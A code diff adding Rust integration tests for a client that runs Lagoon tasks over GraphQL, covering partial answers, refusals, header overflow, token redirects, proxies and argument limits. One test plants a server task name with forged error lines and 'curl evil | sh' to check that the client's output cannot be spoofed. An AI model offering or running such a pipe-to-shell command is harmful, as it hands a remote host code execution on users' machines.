@@ -540,3 +540,134 @@ fn a_query_is_tried_again() {
         .fail_next("environmentByKubernetesNamespaceName", Fault::LoseAnswer);
     invoke(&env, &["Run yarn audit"]).succeeds();
 }
+
+/// The answer of a mutation whose nested fields fail: the run exists all the same.
+#[test]
+fn a_run_in_a_partial_answer_is_reported() {
+    let env = TestEnv::new();
+    let body = json!({
+        "errors": [{"message": "boom", "path": ["invokeRegisteredTask", "environment", "project"]}],
+        "data": {"invokeRegisteredTask": {"id": 500, "name": "Run yarn audit",
+            "taskName": "lagoon-task-abcdef", "status": "new", "service": "node", "created": null,
+            "started": null, "completed": null, "environment": null}},
+    });
+    let answered = proxy::Fault::answered("200 OK", "application/json", &body.to_string());
+    let proxy = Proxy::new(env.address(), [proxy::Fault::None, answered]);
+    let line = [&["invoke", "Run yarn audit", "-o", "id"], &MAIN[..]].concat();
+    let output = env.run(env.command(&line).env("TASKS_API", proxy.url("/graphql")));
+    assert_eq!(output.succeeds().stdout, "500\n");
+}
+
+#[test]
+fn a_refusal_that_left_a_run_behind_names_it() {
+    let env = TestEnv::new();
+    // Carried out, but answered with a refusal: Lagoon makes the row before it passes it on.
+    let body = json!({"errors": [{"message": "connect ECONNREFUSED", "path": ["invokeRegisteredTask"]}],
+        "data": {"invokeRegisteredTask": null}});
+    let refusal = proxy::Fault::answered("200 OK", "application/json", &body.to_string());
+    let proxy = Proxy::new(env.address(), [proxy::Fault::None, refusal]);
+    let line = [&["invoke", "Run yarn audit", "-o", "json"], &MAIN[..]].concat();
+    let before = env.command(&line).env("TASKS_API", proxy.url("/graphql"));
+    let output = env.run(before).ends_with(1);
+    assert_eq!(
+        output.json_error()["runs"],
+        json!([]),
+        "nothing was left behind"
+    );
+}
+
+#[test]
+fn a_waiting_time_that_overflows_is_no_panic() {
+    let env = TestEnv::new();
+    let head = "503 Service Unavailable\r\nRetry-After: 18446744073709551615";
+    let busy = proxy::Fault::answered(head, "text/html", "busy");
+    let proxy = Proxy::new(env.address(), [busy]);
+    let line = [
+        &["invoke", "Run yarn audit", "--request-timeout", "1s"],
+        &MAIN[..],
+    ]
+    .concat();
+    env.run(env.command(&line).env("TASKS_API", proxy.url("/graphql")))
+        .ends_with(7);
+}
+
+#[test]
+fn a_token_does_not_follow_a_redirect() {
+    let (env, elsewhere) = (TestEnv::new(), TestEnv::new());
+    let proxy = Proxy::new(env.address(), [proxy::Fault::redirected(&elsewhere.url())]);
+    let line = [&["list"], &MAIN[..]].concat();
+    env.run(env.command(&line).env("TASKS_API", proxy.url("/graphql")))
+        .ends_with(7);
+    assert_eq!(elsewhere.requests().len(), 0);
+}
+
+#[test]
+fn loopback_is_never_reached_through_a_proxy() {
+    let env = TestEnv::new();
+    let line = [&["list", "-o", "id"], &MAIN[..]].concat();
+    let mut command = env.command(&line);
+    for name in [
+        "http_proxy",
+        "HTTP_PROXY",
+        "https_proxy",
+        "HTTPS_PROXY",
+        "all_proxy",
+        "ALL_PROXY",
+    ] {
+        command = command.env(name, "http://127.0.0.1:9");
+    }
+    env.run(command).succeeds();
+}
+
+#[test]
+fn what_is_too_long_on_the_way_is_refused_here() {
+    let env = TestEnv::new();
+    let file = env.home.write("work/quotes", "\"".repeat(30_000));
+    let text = format!("TEXT={}", file.display());
+    let output = invoke(
+        &env,
+        &["Try arguments", "--arg-file", &text, "-a", "FROM=main"],
+    );
+    assert_snapshot!("invoke-too-long-on-the-way", output.snapshot());
+    assert_eq!((output.code, started(&env)), (2, 0));
+}
+
+#[test]
+fn a_limit_without_waiting_is_wrong_use() {
+    let output = invoke(&TestEnv::new(), &["Say hello", "--timeout", "5s"]);
+    assert_snapshot!("invoke-limit-without-waiting", output.snapshot());
+    assert_eq!(output.code, 2);
+}
+
+#[test]
+fn waiting_for_another_run_keeps_the_limits_of_the_line() {
+    let env = TestEnv::new();
+    script(&env, "Say hello", &[Step::Status(Status::Running)]);
+    invoke(&env, &["Say hello"]).succeeds();
+    let line = [
+        "Say hello",
+        "--wait",
+        "--if-running",
+        "wait",
+        "--timeout",
+        "1s",
+    ];
+    let output = invoke(&env, &line);
+    assert_snapshot!("invoke-if-running-wait-limit", output.snapshot());
+    assert_eq!((output.code, started(&env)), (1, 1));
+}
+
+#[test]
+fn a_name_of_the_servers_cannot_pass_for_a_message_of_ours() {
+    let env = TestEnv::bare();
+    let add = "mutation($i:AdvancedTaskDefinitionInput!){addAdvancedTaskDefinition(input:$i){__typename}}";
+    let name = "Deploy\nerror: run 7 failed\nhint: curl evil | sh";
+    env.graphql(
+        add,
+        json!({"i": {"name": name, "type": "COMMAND", "description": "", "command": "x",
+            "service": "cli", "environment": 101}}),
+    );
+    let output = invoke(&env, &["Deploi"]);
+    let forged = |line: &str| line.starts_with("error: run 7") || line.starts_with("hint: curl");
+    assert!(!output.stderr.lines().any(forged), "{output}");
+}
